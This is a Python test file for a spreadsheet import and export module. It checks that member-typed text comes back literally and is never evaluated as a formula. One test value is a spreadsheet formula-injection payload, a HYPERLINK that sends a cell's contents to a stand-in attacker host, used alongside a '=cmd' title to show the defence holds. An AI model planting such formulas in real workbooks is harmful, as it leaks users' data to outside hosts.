"""What a member types in the workbook comes back exactly as typed: never a formula, never a
cached result, whatever the characters."""

import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from civicspace.imports.problems import ImportRefused
from civicspace.imports.workbook import (
    DimensionRow,
    PanelistRow,
    SourceRow,
    WorkbookContent,
    workbook_build,
)
from civicspace.imports.workbook_upload import workbook_parse
from tests.imports.xlsx_files import EDITION, genuine_workbook

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B4, "see the law")'
# Text as stored: forms and the reader strip surrounding whitespace; NUL cannot be stored.
STORED = st.text().map(str.strip).filter(lambda t: t and "\x00" not in t)
# A source is one line of "title | URL | date | kind": its title holds no separator.
TITLE = STORED.filter(lambda t: "|" not in t and len(t.splitlines()) == 1 and t == t.strip())


def content(justification: str, title: str = "Law", sector: str = "media") -> WorkbookContent:
    row = DimensionRow(
        Decimal("3"),
        justification,
        (SourceRow(title, "https://example.org/law", None, "law"),),
        {"P01": Decimal("2")},
    )
    return WorkbookContent(
        "KZ",
        "Kazakhstan",
        2025,
        EDITION.code,
        {},
        [PanelistRow("P01", sector)],
        dict.fromkeys(EDITION.panel_dimensions, row),
    )


def round_trip(sent: WorkbookContent) -> WorkbookContent:
    return workbook_parse(workbook_build(sent, EDITION), iso2="KZ", year=2025, edition=EDITION)


def parse(data: bytes) -> WorkbookContent:
    return workbook_parse(data, iso2="KZ", year=2025, edition=EDITION)


@settings(max_examples=40, deadline=None)
@given(justification=STORED, title=TITLE, sector=STORED)
def test_any_text_comes_back_unchanged(justification, title, sector):
    sent = content(justification, title, sector)
    back = round_trip(sent)
    assert back.dimensions == sent.dimensions
    assert back.panelists == sent.panelists


def test_a_formula_like_justification_is_a_text_cell_and_comes_back():
    data = workbook_build(content(HYPERLINK, title="=cmd"), EDITION)
    p4 = openpyxl.load_workbook(io.BytesIO(data))["P4"]
    assert (p4["E4"].value, p4["E4"].data_type) == (HYPERLINK, "s")
    assert (p4["F4"].data_type, p4["F4"].value.startswith("=cmd |")) == ("s", True)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not any(b"<f>" in archive.read(m) for m in archive.namelist())
    back = parse(data).dimensions["4.1"]
    assert back.justification == HYPERLINK
    assert [s.title for s in back.sources] == ["=cmd"]


def test_a_formula_typed_in_the_spreadsheet_is_read_as_typed_not_as_its_cached_result():
    book = openpyxl.load_workbook(io.BytesIO(genuine_workbook()))
    book["P4"]["D4"] = 3
    book["P4"]["E4"] = "=1+1"  # openpyxl, like Excel, stores this as a formula
    assert book["P4"]["E4"].data_type == "f"
    out = io.BytesIO()
    book.save(out)
    assert parse(out.getvalue()).dimensions["4.1"].justification == "=1+1"


def test_control_characters_are_escaped_in_the_file_and_come_back():
    text = "Vertical\x0btab from Word,\r\nnull-free\x01 and _x0041_ literally"
    data = workbook_build(content(text), EDITION)
    assert openpyxl.load_workbook(io.BytesIO(data))["P4"]["E4"].value == (
        "Vertical_x000B_tab from Word,_x000D_\nnull-free_x0001_ and _x005F_x0041_ literally"
    )
    assert parse(data).dimensions["4.1"].justification == text


def test_a_nul_character_is_refused_naming_the_cell():
    data = workbook_build(content("before\x00after"), EDITION)
    with pytest.raises(ImportRefused) as caught:
        parse(data)
    problems = {str(p) for p in caught.value.problems}
    assert (
        'sheet "P4", cell E4: the text holds a NUL character (code 0), which cannot be stored;'
        " delete it"
    ) in problems
